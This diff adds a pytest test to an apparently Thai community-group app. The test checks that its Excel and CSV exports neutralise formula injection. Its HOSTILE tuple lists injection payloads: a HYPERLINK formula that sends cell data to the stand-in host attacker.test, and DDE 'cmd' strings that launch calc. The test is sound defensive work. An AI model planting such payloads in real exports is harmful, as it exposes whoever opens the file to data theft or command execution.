@@ -285,3 +285,52 @@ def test_places_sort_in_thai_dictionary_order() -> None:
 
     names = ["บ้านหนองโพ", "บ้านโนนดู่", "บ้านดวนใหญ่", "บ้านกก"]
     assert sorted(names, key=thai_sort_key) == ["บ้านกก", "บ้านดวนใหญ่", "บ้านโนนดู่", "บ้านหนองโพ"]
+
+
+# --- spreadsheet safety (issue 14) ------------------------------------------------------------
+
+HOSTILE = (
+    '=HYPERLINK("http://attacker.test/?d="&H3,"คลิก")',
+    "=cmd|' /C calc'!A0",
+    "+SUM(1,2)",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1)",
+    "\t=1+1",
+    "\r=1+1",
+)
+
+
+async def test_no_export_holds_a_formula_whatever_people_typed(chat: Chat) -> None:
+    """A member's name, a meeting's topics, a visit's notes, even a group's name: every text
+    cell is text (openpyxl sees no formula) and every CSV field is neutralised."""
+    assert chat.ids is not None
+    egg = chat.ids.egg_group_id
+    async with chat.app.uow() as uow:
+        officer = await person(uow, "รัตนา พัฒนกิจ")
+        member = await person(uow, "บุญมี ใจงาม")
+        await uow.session.execute(update(Person).where(Person.id == member).values(name=HOSTILE[0]))
+        group = await uow.groups.get(chat.ids.frog_group_id)
+        assert group is not None
+        group.name = HOSTILE[2]
+        for n, text in enumerate(HOSTILE):
+            uow.session.add(Meeting(group_id=egg, on_date=date(2025, 9, 3 + n), attendees=5,
+                                    topics=text, decisions=text, recorded_by=officer))  # fmt: skip
+            uow.session.add(Visit(officer_id=chat.ids.officer_id, group_id=egg,
+                                  on_date=date(2025, 9, 3 + n), notes=text, suggestions=text,
+                                  recorded_by=officer))  # fmt: skip
+            uow.session.add(Sale(group_id=egg, item=text, amount=Decimal(5), on_date=date(2025, 9, 3 + n),
+                                 unit=text[:32], recorded_by=member))  # fmt: skip
+        await uow.commit()
+    district = await district_id(chat)
+    async with chat.app.uow() as uow:
+        workbook = await district_workbook(uow, district, SEPTEMBER)
+        summary = await district_summary_csv(uow, district, SEPTEMBER)
+    book = load_workbook(io.BytesIO(workbook))
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    texts = {c.value for c in cells if isinstance(c.value, str)}
+    assert {HOSTILE[0], HOSTILE[1], "@SUM(1)"} <= texts  # kept as typed, as text
+    assert all(c.quotePrefix for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@")
+    fields = [f for row in csv.reader(io.StringIO(summary.decode("utf-8-sig"))) for f in row]
+    assert HOSTILE[2] not in fields and f"'{HOSTILE[2]}" in fields
+    assert not any(f[:1] in ("=", "+", "-", "@", "\t", "\r") for f in fields)
